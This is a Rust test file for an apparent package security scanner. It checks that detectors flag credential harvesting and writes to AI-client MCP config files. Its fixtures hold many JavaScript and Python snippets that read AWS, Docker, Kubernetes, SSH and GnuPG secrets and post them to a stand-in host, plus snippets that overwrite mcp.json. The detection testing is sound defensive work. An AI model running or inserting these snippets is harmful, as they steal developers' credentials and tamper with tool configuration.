//! What is said of code that nothing is known to compare with, whatever names and loops it is written with.

use stockade_assess::{Action, History, Release, Setting, Subject, assess};
use stockade_content::{Caps, Facts, File, Kind, Package};
use stockade_model::Location;
use stockade_survey::adapt;

/// Ways to read the secrets of three services and to send them off.
const HARVEST_IN_JAVASCRIPT: &[(&str, &str)] = &[
    (
        "by their names",
        "for (const f of ['.aws/credentials', '.docker/config.json', '.kube/config']) send(read(path.join(os.homedir(), f)));",
    ),
    ("folder by folder", "for (const d of ['aws', 'ssh', 'gnupg']) send(read(`${os.homedir()}/.${d}/credentials`)); "),
    (
        "pairs",
        "for (const [d, f] of [['.aws', 'credentials'], ['.docker', 'config.json'], ['.kube', 'config']]) send(read(path.join(os.homedir(), d, f)));",
    ),
    (
        "records",
        "for (const { d, f } of [{ d: '.aws', f: 'credentials' }, { d: '.docker', f: 'config.json' }, { d: '.kube', f: 'config' }]) send(read(path.join(os.homedir(), d, f)));",
    ),
    (
        "each of a list",
        "[['.aws', 'credentials'], ['.docker', 'config.json'], ['.kube', 'config']].forEach(([d, f]) => send(read(path.join(os.homedir(), d, f))));",
    ),
    (
        "a list with a name",
        "const dirs = ['.aws', '.docker', '.kube'], ends = ['credentials', 'config', 'config.json']; dirs.forEach(function (d) { ends.forEach((f) => send(read(path.join(os.homedir(), d, f)))); });",
    ),
    (
        "mapped",
        "const dirs = ['.aws', '.kube', '.gnupg']; dirs.map((d) => path.join(os.homedir(), d, 'config')).forEach((f) => send(read(f)));",
    ),
    (
        "entries of an object",
        "for (const [d, f] of Object.entries({ '.aws': 'credentials', '.docker': 'config.json', '.kube': 'config' })) send(read(path.join(os.homedir(), d, f)));",
    ),
    (
        "by their places",
        "const dirs = ['.aws', '.docker', '.kube'], ends = ['credentials', 'config.json', 'config']; for (let i = 0; i < dirs.length; i++) send(read(path.join(os.homedir(), dirs[i], ends[i])));",
    ),
    (
        "entries of the home folder",
        "for (const e of fs.readdirSync(os.homedir())) { if (['.ssh', '.npmrc', '.gnupg'].includes(e)) send(read(path.join(os.homedir(), e))); }",
    ),
    (
        "a join with a name of its own",
        "const { join: j } = path; const { homedir: h } = os; send(read(j(h(), '.aws', 'credentials')) + read(j(h(), '.docker', 'config.json')) + read(j(h(), '.kube', 'config')));",
    ),
];

const HARVEST_IN_PYTHON: &[(&str, &str)] = &[
    (
        "folder by folder",
        "for d, f in [('.aws', 'credentials'), ('.docker', 'config.json'), ('.kube', 'config')]:\n    send(open(o.path.join(o.path.expanduser('~'), d, f)).read())\n",
    ),
    (
        "pathlib",
        "for d in ('.aws', '.kube', '.gnupg'):\n    for f in ('credentials', 'config'):\n        send((P.home() / d / f).read_text())\n",
    ),
    ("pathlib in one call", "for d in ('.aws', '.kube', '.gnupg'):\n    send(P(P.home(), d, 'config').read_text())\n"),
    ("f-strings", "for d in ('aws', 'kube', 'gnupg'):\n    send(open(f'{P.home()}/.{d}/config').read())\n"),
    ("a comprehension", "[send(open(j(x('~'), d, 'config')).read()) for d in ('.aws', '.kube', '.gnupg')]\n"),
    (
        "entries of a dictionary",
        "for d, f in {'.aws': 'credentials', '.docker': 'config.json', '.kube': 'config'}.items():\n    send(open(j(x('~'), d, f)).read())\n",
    ),
    (
        "joins with names of their own",
        "send(open(j(x('~'), '.aws', 'credentials')).read() + open(j(x('~'), '.docker', 'config.json')).read() + open(j(x('~'), '.kube', 'config')).read())\n",
    ),
];

const JAVASCRIPT: &str = "import fs, { readFileSync as read } from 'node:fs';\nimport os from 'node:os';\nimport path from 'node:path';\n\
    const send = (body) => fetch('https://collect.example.com/', { method: 'POST', body });\n";

const PYTHON: &str = "import os as o\nfrom os.path import expanduser as x, join as j\nfrom pathlib import Path as P\nimport requests as r\n\n\
    def send(text):\n    r.post('https://collect.example.com/', data=text)\n\n";

/// Ways to write the config of a client.
const CONFIG_IN_JAVASCRIPT: &[&str] = &[
    "import { writeFileSync as w } from 'fs'; import { join as j } from 'path'; import { homedir as h } from 'os'; w(j(h(), '.cursor', 'mcp.json'), text);",
    "const { writeFileSync: w } = require('fs'); const { join: j } = require('path'); w(j(process.env.HOME, '.cursor', 'mcp.json'), text);",
    "import fs from 'fs'; import path from 'path'; for (const d of ['.cursor', '.vscode']) fs.writeFileSync(path.join(home, d, 'mcp.json'), text);",
    "import { promises as f } from 'fs'; import path from 'path'; ['.cursor', '.vscode'].forEach((d) => f.writeFile(path.join(home, d, 'mcp.json'), text));",
];

const CONFIG_IN_PYTHON: &[&str] = &[
    "from os.path import join as j, expanduser as x\nopen(j(x('~'), '.cursor', 'mcp.json'), 'w').write(text)\n",
    "from pathlib import Path as P\nfor d in ('.cursor', '.vscode'):\n    (P.home() / d / 'mcp.json').write_text(text)\n",
];

fn judged(python: bool, source: &str) -> stockade_assess::Said {
    let (kind, path) = if python { (Kind::Wheel, "server/main.py") } else { (Kind::NpmTarball, "index.mjs") };
    let file =
        File { path: path.to_owned(), bytes: source.as_bytes().to_vec(), size: source.len() as u64, executable: false };
    let package = Package::of_files(kind, vec![file], Vec::new(), 0);
    let name = stockade_model::Package::new(stockade_model::Ecosystem::Npm, "qx-notes");
    let mut history = History::new(name.clone());
    history.releases = vec![Release::new("1.0.0")];
    let mut subject = Subject::new(name.at("1.0.0"), Location::Path("mcp.json".into()));
    subject.history = history.into();
    subject.facts = adapt::facts::facts(&Facts::of(&package, &Caps::default()), &package.problems).0.into();
    assess(&subject, &Setting::at("2026-06-15T00:00:00Z".parse().unwrap()))
}

fn action(said: &stockade_assess::Said, check: &str) -> Option<Action> {
    said.of(check).map(|alarm| alarm.action).max()
}

#[test]
fn secrets_that_are_collected_in_a_loop_hold() {
    let in_javascript = HARVEST_IN_JAVASCRIPT.iter().map(|way| (false, JAVASCRIPT, way));
    let in_python = HARVEST_IN_PYTHON.iter().map(|way| (true, PYTHON, way));
    let mut missed = Vec::new();
    for (python, top, (name, source)) in in_javascript.chain(in_python) {
        let said = judged(python, &format!("{top}{source}"));
        if action(&said, "credential-harvest") < Some(Action::Hold) {
            missed.push((python, name, action(&said, "credential-harvest")));
        }
    }
    assert!(missed.is_empty(), "{missed:#?}");
}

#[test]
fn a_config_that_is_written_is_seen_under_any_name() {
    let in_javascript = CONFIG_IN_JAVASCRIPT.iter().map(|source| (false, source));
    let in_python = CONFIG_IN_PYTHON.iter().map(|source| (true, source));
    for (python, source) in in_javascript.chain(in_python) {
        let said = judged(python, source);
        let found = said.of("writes-client-config").next().unwrap_or_else(|| panic!("{source}: {said:#?}"));
        assert!(found.finding.message.contains("writes the config"), "{source}: {}", found.finding.message);
    }
}

/// Lists of names that lead to no secret, and a tool of one service.
#[test]
fn loops_over_other_things_say_nothing() {
    for (python, source) in [
        (false, "const skip = ['.aws', '.docker', '.kube']; walk(root, (e) => !skip.includes(e));"),
        (false, "for (const d of ['src', 'test', 'docs']) send(read(path.join(os.homedir(), d, 'config')));"),
        (false, "for (const f of ['credentials', 'config']) send(read(path.join(os.homedir(), '.aws', f)));"),
        (true, "for d in ('.aws', '.kube', '.gnu'):\n    skip(d)\n"),
    ] {
        let top = if python { PYTHON } else { JAVASCRIPT };
        let said = judged(python, &format!("{top}{source}"));
        assert_eq!(action(&said, "credential-harvest"), None, "{source}: {said:#?}");
    }
}
